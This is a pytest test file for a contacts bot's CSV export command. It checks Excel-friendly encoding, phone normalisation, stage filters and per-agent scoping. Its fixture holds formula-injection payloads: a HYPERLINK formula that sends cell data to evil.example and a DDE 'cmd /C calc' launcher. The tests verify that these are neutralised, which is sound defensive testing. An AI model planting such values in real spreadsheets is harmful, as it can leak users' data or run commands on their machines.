"""`stagekeeper export FILE [--stage NAME ...]` (DESIGN §4) and the export's scopes, on SQLite
and PostgreSQL: a file Excel opens with Vietnamese intact, phones intact, formulas disarmed."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from bot.cli import main
from bot.container import Services
from domain.access import SYSTEM
from domain.model import Role
from domain.services.contacts import ContactDraft

BOM = b"\xef\xbb\xbf"


def read_csv(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(BOM)
    assert b"\r\n" in raw
    return list(csv.DictReader(io.StringIO(raw[len(BOM) :].decode("utf-8"), newline="")))


@pytest.fixture
async def filled(services: Services) -> Services:
    await services.stages.apply_template(SYSTEM, "amis")
    lan = await services.users.add(SYSTEM, "Lan", Role.AGENT, team="north", telegram_id=11)
    otto = await services.users.add(SYSTEM, "Otto", Role.AGENT, team="south", telegram_id=12)
    await services.contacts.add(
        lan,
        ContactDraft(
            name="Nguyễn Văn An",
            phone="0912 345 678",
            email="an@x.vn",
            company="Công ty Đại Phát",
            source="Zalo",
            stage="MQL",
            value="1500",
            tags=["hội chợ", "vip"],
            custom_fields={"Ngành": "Bất động sản", "budget": "-12.5"},
        ),
    )
    await services.contacts.add(
        lan,
        ContactDraft(
            name='=HYPERLINK("http://evil.example/?x="&A1,"Xem")',
            external_id="+cmd|' /C calc'!A0",
            source="@SUM(1)",
            stage="Lead",
            custom_fields={"note": "-2+3"},
        ),
    )
    await services.contacts.add(otto, ContactDraft(name="Trần Thị Bích", phone="+84987654321"))
    return services


def test_the_command_writes_every_contact_as_utf8_with_bom_for_excel(
    filled: Services, database_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "contacts.csv"
    assert main(["export", str(target), "--database-url", database_url, "--json"]) == 0
    assert json.loads(capsys.readouterr().out) == {"file": str(target), "rows": 3}
    rows = read_csv(target)
    assert list(rows[0])[:15] == [
        "id",
        "name",
        "phone",
        "email",
        "external_id",
        "company",
        "source",
        "owner",
        "stage",
        "stage_category",
        "value",
        "tags",
        "created_at",
        "stage_entered_at",
        "last_activity_at",
    ]
    assert list(rows[0])[15:] == ["custom:budget", "custom:Ngành", "custom:note"]
    an, hostile, bich = rows
    assert (an["name"], an["company"], an["phone"]) == (
        "Nguyễn Văn An",
        "Công ty Đại Phát",
        "+84912345678",
    )
    assert (an["owner"], an["stage"], an["stage_category"], an["value"]) == (
        "Lan",
        "MQL",
        "open",
        "1500.00",
    )
    assert an["tags"] == "hội chợ; vip"
    assert (an["custom:Ngành"], an["custom:budget"], an["custom:note"]) == (
        "Bất động sản",
        "-12.5",
        "",
    )
    assert an["created_at"].endswith("+07:00")
    assert an["stage_entered_at"] == an["created_at"]
    assert hostile["name"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Xem")'
    assert hostile["external_id"] == "'+cmd|' /C calc'!A0"
    assert hostile["source"] == "'@SUM(1)"
    assert hostile["custom:note"] == "'-2+3"
    assert (bich["name"], bich["phone"], bich["stage"], bich["owner"]) == (
        "Trần Thị Bích",
        "+84987654321",
        "",
        "Otto",
    )


def test_the_stage_option_narrows_and_an_unknown_stage_is_refused_without_a_file(
    filled: Services, database_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    target = folder / "some.csv"
    args = ["--database-url", database_url]
    assert main(["export", str(target), "--stage", "lead", "--stage", "MQL", *args]) == 0
    assert capsys.readouterr().out == f"Exported 2 contacts to {target}.\n"
    assert {r["stage"] for r in read_csv(target)} == {"Lead", "MQL"}
    missing = folder / "missing.csv"
    assert main(["export", str(missing), "--stage", "Nope", *args]) == 1
    assert "no stage called 'Nope'" in capsys.readouterr().err
    assert not missing.exists()
    assert main(["export", str(folder / "no" / "dir.csv"), *args]) == 1
    assert "cannot write" in capsys.readouterr().err
    assert sorted(p.name for p in folder.iterdir()) == ["some.csv"]  # no partial file left


def test_a_dash_writes_the_csv_to_stdout_and_the_summary_to_stderr(
    filled: Services, database_url: str, capfdbinary: pytest.CaptureFixture[bytes]
) -> None:
    assert main(["export", "-", "--stage", "Lead", "--database-url", database_url]) == 0
    out, err = capfdbinary.readouterr()
    assert out.startswith(BOM + b"id,name,")
    assert out.count(b"\r\n") == 2
    assert err == b"Exported 1 contact to -.\n"


async def test_an_agent_exports_only_their_own_contacts(filled: Services) -> None:
    lan = await filled.users.by_telegram_id(11)
    assert lan is not None
    out = io.StringIO()
    result = await filled.exports.export(lan, out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert result.rows == 2
    assert {r["owner"] for r in rows} == {"Lan"}
    assert "Trần Thị Bích" not in out.getvalue()
    assert "custom:Ngành" in result.columns


async def test_batches_follow_one_another_by_id_without_gaps_or_repeats(
    services: Services,
) -> None:
    for n in range(7):
        await services.contacts.add(SYSTEM, ContactDraft(name=f"Lead {n}", external_id=f"X{n}"))
    services.exports._batch_size = 3
    out = io.StringIO()
    assert (await services.exports.export(SYSTEM, out)).rows == 7
    names = [r["name"] for r in csv.DictReader(io.StringIO(out.getvalue()))]
    assert names == [f"Lead {n}" for n in range(7)]
